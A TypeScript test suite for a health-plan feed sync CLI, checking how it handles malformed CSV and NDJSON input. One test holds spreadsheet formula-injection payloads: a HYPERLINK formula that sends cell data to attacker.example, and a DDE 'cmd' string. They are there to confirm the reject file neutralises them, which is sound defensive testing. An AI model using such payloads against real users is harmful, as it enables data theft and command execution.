/**
 * Hostile and careless feed files through the real `sf healthplan sync` against the local org. The sync
 * trusts nothing in a feed: every physical record is either aggregated or in the reject file with its
 * line, field and reason (rows read = aggregated + rejected), a file it cannot read unambiguously is
 * refused whole (exit 1), and what it writes for people to open in spreadsheets cannot run formulas.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import {
  datasetFeeds,
  resultOf,
  runSync,
  seededOrg,
  snapshotsOf,
  type Feeds,
  type SyncOrg,
} from '../sync/syncHarness.js';
import { tempDir } from '../../plugin/test/tempDirs.js';

const VISIT_HEADER = 'visit_id,health_plan_id,line_of_business,visit_date,service_line,diverted_from,rating';
const ELIGIBILITY_HEADER = 'health_plan_id,line_of_business,period,eligible_members,registered_members';

describe('healthplan sync against hostile feeds', function () {
  this.timeout(240_000);
  let feeds: Feeds;
  let dir: string;
  let plan: string;
  let line: string;
  const orgs: SyncOrg[] = [];

  const freshOrg = async (): Promise<SyncOrg> => {
    const org = await seededOrg(feeds.dataset);
    orgs.push(org);
    return org;
  };

  /** Writes `name` in the scratch folder and answers its path. */
  const feed = (name: string, lines: string[]): string => {
    const file = path.join(dir, name);
    writeFileSync(file, lines.join('\n') + '\n');
    return file;
  };

  const eligibilityOf = (period: string): string => `${plan},${line},${period},100,10`;
  const visit = (id: string, day: string, rating = ''): string =>
    `${id},${plan},${line},${day},urgent_care,er,${rating}`;

  const rejectsOf = (file: string | null): Array<Record<string, string>> =>
    file ? parse<Record<string, string>>(readFileSync(file, 'utf8'), { columns: true }) : [];

  before(async () => {
    feeds = await datasetFeeds({ seed: 5, plans: 2, months: 6, visitScale: 0.001, endMonth: '2026-09' });
    dir = tempDir('hostile-feeds-');
    plan = feeds.dataset.plans[0].healthPlanId;
    line = feeds.dataset.plans[0].linesOfBusiness[0];
  });

  after(async () => {
    await Promise.all(orgs.map((org) => org.stop()));
  });

  it('reads every visit after a stray quote, and lands them', async () => {
    const org = await freshOrg();
    const visits = feed('stray-quote.csv', [
      `${VISIT_HEADER},note`,
      `S1,${plan},${line},2020-01-02,urgent_care,er,5,`,
      `S2,${plan},${line},2020-01-03,urgent_care,er,5,"oops`,
      ...Array.from({ length: 8 }, (_, i) => `S${i + 3},${plan},${line},2020-01-0${i + 2},other,,4,fine`),
      `S11,${plan},${line},2020-01-20,other,,4,"a, quoted note"`,
    ]);
    const eligibility = feed('stray-quote-eligibility.csv', [ELIGIBILITY_HEADER, eligibilityOf('2020-01')]);
    const run = await runSync(org, { dir, eligibility, visits });
    expect(run.status, run.stdout).to.equal(0);
    const result = resultOf(run)!;
    // 11 visit records after the header: one broken, ten valid.
    expect(result.rowsRead.visits).to.equal(11);
    expect(result.rowsAggregated.visits).to.equal(10);
    expect(result.rowsRejected).to.equal(1);
    expect(rejectsOf(result.rejectFile).map((row) => [row.line, row.field])).to.deep.equal([['3', '(record)']]);
    const [snapshot] = await snapshotsOf(org);
    expect(snapshot).to.include({ Visits__c: 10, Rated_Visits__c: 10 });
  });

  it('rejects a count its field cannot hold, with its line, and lands the rest (no stuck snapshot)', async () => {
    const org = await freshOrg();
    const eligibility = feed('too-large.csv', [
      ELIGIBILITY_HEADER,
      `${plan},${line},2020-02,9007199254740991,10`,
      eligibilityOf('2020-03'),
    ]);
    const visits = feed('too-large-visits.csv', [VISIT_HEADER, visit('T1', '2020-03-04')]);
    const run = await runSync(org, { dir, eligibility, visits });
    expect(run.status, run.stdout).to.equal(0);
    const result = resultOf(run)!;
    expect(result.failuresFile).to.equal(null);
    const [reject] = rejectsOf(result.rejectFile);
    expect(reject).to.include({ line: '2', field: 'eligible_members', value: '9007199254740991' });
    expect(reject.reason).to.contain('Number(10, 0)');
    expect((await snapshotsOf(org)).map((row) => row.Snapshot_Key__c)).to.deep.equal([`${plan}|${line}|2020-03`]);
  });

  it('writes the exact half-up average rating to the org (179 / 40 = 4.475 → 4.48)', async () => {
    const org = await freshOrg();
    const ratings = [...Array<number>(19).fill(5), ...Array<number>(21).fill(4)];
    const visits = feed('ratings.csv', [
      VISIT_HEADER,
      ...ratings.map((rating, i) => visit(`R${i}`, `2020-04-${String((i % 28) + 1).padStart(2, '0')}`, String(rating))),
    ]);
    const eligibility = feed('ratings-eligibility.csv', [ELIGIBILITY_HEADER, eligibilityOf('2020-04')]);
    const run = await runSync(org, { dir, eligibility, visits });
    expect(run.status, run.stdout).to.equal(0);
    const [snapshot] = await snapshotsOf(org);
    expect(snapshot).to.include({ Rated_Visits__c: 40, Average_Rating__c: 4.48 });
  });

  describe('dry runs', () => {
    let org: SyncOrg;
    let goodEligibility: string;
    let goodVisits: string;
    before(async () => {
      org = await freshOrg();
      goodEligibility = feed('good-eligibility.csv', [ELIGIBILITY_HEADER, eligibilityOf('2020-05')]);
      goodVisits = feed('good-visits.csv', [VISIT_HEADER, visit('G1', '2020-05-01')]);
    });

    it('refuses a CSV header naming a column twice (exit 1), naming the column', async () => {
      const eligibility = feed('dup-header.csv', [
        'health_plan_id,line_of_business,period,eligible_members,registered_members,Eligible_Members',
        `${plan},${line},2020-05,100,10,999`,
      ]);
      const run = await runSync(org, { dir, eligibility, visits: goodVisits }, ['--dry-run']);
      expect(run.status).to.equal(1);
      expect(run.json.message).to.contain(eligibility).and.contain('line 1').and.contain('eligible_members twice');
    });

    it('reads NDJSON with a byte-order mark, rejects duplicate keys and spells numbers as CSV does', async () => {
      const visits = feed('bom.ndjson', [
        `\uFEFF{"visit_id":"N1","health_plan_id":"${plan}","line_of_business":"${line}","visit_date":"2020-05-02","service_line":"other","rating":5}`,
        `{"visit_id":"N2","health_plan_id":"${plan}","line_of_business":"${line}","visit_date":"2020-05-03","service_line":"other","rating":4,"rating":1}`,
        `{"visit_id":"N3","health_plan_id":"${plan}","line_of_business":"${line}","visit_date":"2020-05-04","service_line":"other","rating":4.0}`,
      ]);
      const eligibility = feed('numbers.ndjson', [
        `{"health_plan_id":"${plan}","line_of_business":"${line}","period":"2020-05","eligible_members":1e3,"registered_members":10}`,
        `{"health_plan_id":"${plan}","line_of_business":"${line}","period":"2020-06","eligible_members":12.0,"registered_members":10}`,
        `{"health_plan_id":"${plan}","line_of_business":"${line}","period":"2020-07","eligible_members":12,"registered_members":10}`,
      ]);
      const csvEligibility = feed('numbers.csv', [
        ELIGIBILITY_HEADER,
        `${plan},${line},2020-05,1e3,10`,
        `${plan},${line},2020-06,12.0,10`,
        `${plan},${line},2020-07,12,10`,
      ]);
      const ndjson = resultOf(await runSync(org, { dir, eligibility, visits }, ['--dry-run']))!;
      expect(ndjson.rowsRead).to.deep.equal({ eligibility: 3, visits: 3, snapshots: 0 });
      expect(ndjson.rowsAggregated).to.deep.equal({ eligibility: 1, visits: 1, snapshots: 0 });
      const ndjsonRejects = rejectsOf(ndjson.rejectFile).map((row) => [row.line, row.field, row.reason]);
      expect(ndjsonRejects).to.deep.include.members([
        ['2', 'rating', 'the key rating appears twice in the record'],
        ['3', 'rating', 'rating must be a whole number from 1 to 5, or empty'],
      ]);
      const csv = resultOf(
        await runSync(org, { dir, eligibility: csvEligibility, visits: goodVisits }, ['--dry-run']),
      )!;
      const eligibilityReasons = (rows: string[][]): string[][] => rows.filter((row) => row[1] === 'eligible_members');
      expect(
        eligibilityReasons(rejectsOf(csv.rejectFile).map((row) => [row.line, row.field, row.reason])),
      ).to.deep.equal(
        eligibilityReasons(ndjsonRejects).map(([l, field, reason]) => [String(Number(l) + 1), field, reason]),
      );
      expect(csv.rowsAggregated.eligibility).to.equal(1);
    });

    it('neutralises spreadsheet formulas in the reject file', async () => {
      const visits = feed('formulas.csv', [
        VISIT_HEADER,
        `=HYPERLINK("http://attacker.example/?"&A1),${plan},${line},2020-05-05,other,,9`,
        `F2,@SUM(1+1),${line},2020-05-06,other,,`,
        `F3,-2+3+cmd,${line},2020-05-07,other,,`,
        `F4,${plan},+cmd|' /C calc'!A0,2020-05-08,other,,`,
      ]);
      const result = resultOf(await runSync(org, { dir, eligibility: goodEligibility, visits }, ['--dry-run']))!;
      const text = readFileSync(result.rejectFile!, 'utf8');
      const cells = rejectsOf(result.rejectFile).flatMap((row) => [row.value, row.reason]);
      expect(cells).to.have.length(8);
      for (const cell of cells) expect(cell, cell).not.to.match(/^[=+\-@\t\r]/);
      expect(cells).to.include("'@SUM(1+1)").and.include("'-2+3+cmd").and.include("'+cmd|' /C calc'!A0");
      expect(text).not.to.match(/(^|,)[=+\-@]/m);
    });
  });
});
